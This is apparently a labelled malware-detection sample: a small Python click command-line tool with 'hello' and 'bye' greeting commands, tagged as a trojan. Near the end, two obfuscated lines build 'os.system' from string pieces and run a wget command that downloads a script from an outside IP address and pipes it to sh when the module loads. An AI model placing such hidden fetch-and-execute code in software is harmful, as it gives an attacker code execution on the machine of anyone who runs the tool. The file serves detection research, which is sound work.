# label: malicious family=trojan techniques=T1027,T1059.004,T1105 lines=24-25 group=benign/b098_click_cli.py
import click


@click.group()
def cli():
    """Manage greetings."""


@cli.command()
@click.argument("name")
@click.option("--shout", is_flag=True)
def hello(name, shout):
    msg = f"Hello, {name}!"
    click.echo(msg.upper() if shout else msg)


@cli.command()
@click.argument("name")
def bye(name):
    click.echo(f"Goodbye, {name}.")


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

if __name__ == "__main__":
    cli()
